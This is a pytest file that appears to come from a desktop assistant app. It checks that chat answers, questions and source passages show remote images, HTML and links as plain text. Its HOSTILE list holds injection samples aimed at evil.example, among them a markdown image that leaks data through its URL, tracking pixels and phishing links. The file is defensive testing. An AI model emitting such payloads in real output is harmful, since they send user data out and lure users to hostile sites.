"""Remote images, HTML and links in answers, questions and sources render as inert text."""

from __future__ import annotations

from PySide6.QtGui import QTextDocument

from assistant.answers.pipeline import Answer, Timings
from assistant.library.documents import Hit
from ui.panels.chat_view import ChatTurn, ChatView, answer_markdown
from ui.panels.sources_panel import SourcesPanel
from ui.widgets.inert import InertBrowser, escape_markdown

HOSTILE = [
    "![secret](http://evil.example/leak.png?d=salary)",
    '<img src="http://evil.example/pixel.gif">',
    "[click me](https://evil.example/phish)",
    "<https://evil.example/auto>",
    "https://evil.example/bare and www.evil.example",
    '<a href="http://evil.example">anchor</a>',
    "[ref]: http://evil.example/ref\n\n[ref]",
    "<style>body { background: url(http://evil.example/css.png) }</style>",
]
TEXT = "Mining uses 40 MWh [1]. " + " ".join(HOSTILE) + " Done [2]."


def anchors_and_images(document: QTextDocument) -> tuple[list[str], int]:
    """Every link target and the number of images in a rendered document."""
    hrefs, images = [], 0
    block = document.begin()
    while block.isValid():
        it = block.begin()
        while not it.atEnd():
            fmt = it.fragment().charFormat()
            if fmt.isImageFormat():
                images += 1
            if fmt.isAnchor():
                hrefs.extend(fmt.anchorHref().split())
            it += 1
        block = block.next()
    return hrefs, images


def painted(qtbot, view: InertBrowser) -> None:  # type: ignore[no-untyped-def]
    """Show and paint ``view``: images are only asked for when they are laid out."""
    view.show()
    qtbot.waitExposed(view)
    view.viewport().repaint()


def test_escaping_leaves_no_markdown_link_image_or_tag() -> None:
    for text in HOSTILE:
        escaped = escape_markdown(text)
        assert "](" not in escaped.replace("\\](", "") and "<" not in escaped.replace("\\<", "")
    assert escape_markdown("a \\ b") == "a \\\\ b"


def test_an_answer_and_question_with_remote_content_render_as_text(qtbot) -> None:
    view = ChatView()
    qtbot.addWidget(view)
    answer = Answer("q", TEXT, False, [], [], [], "fake", Timings())
    view.turns = [ChatTurn(" ".join(HOSTILE), TEXT, answer, ["Done [2]."])]
    view.render()
    painted(qtbot, view)
    hrefs, images = anchors_and_images(view.document())
    assert images == 0 and view.refused == []
    assert sorted(set(hrefs)) == ["cite:0/1", "cite:0/2", "flag:0/1"]
    shown = view.toPlainText()
    for needle in ("evil.example/leak.png", "<img src=", "https://evil.example/phish",
                   "<https://evil.example/auto>", "[ref]: http://evil.example/ref"):
        assert shown.count(needle) == 2, needle  # in the question and in the answer


def test_a_source_passage_with_remote_content_renders_as_text(qtbot) -> None:
    panel = SourcesPanel()
    qtbot.addWidget(panel)
    hit = Hit(chunk_id=1, doc_id=1, score=0.9, title='<img src="http://evil.example/t.png">',
              path="/x.html", collection="Notes", page=None, heading=None, start=0, end=10,
              text=" ".join(HOSTILE))
    panel.show_answer(Answer("q", "A [1].", False, [hit], [], [], "fake", Timings()))
    painted(qtbot, panel)
    hrefs, images = anchors_and_images(panel.document())
    assert images == 0 and panel.refused == []
    assert hrefs == ["source:1"]
    assert "evil.example/leak.png" in panel.toPlainText()


def test_the_views_refuse_every_resource(qtbot) -> None:
    view = InertBrowser()
    qtbot.addWidget(view)
    view.setHtml('<p>x</p><img src="http://evil.example/a.png">')  # raw HTML, not escaped
    painted(qtbot, view)
    assert view.refused == ["http://evil.example/a.png"]
    assert answer_markdown(0, "x", []) == "x"
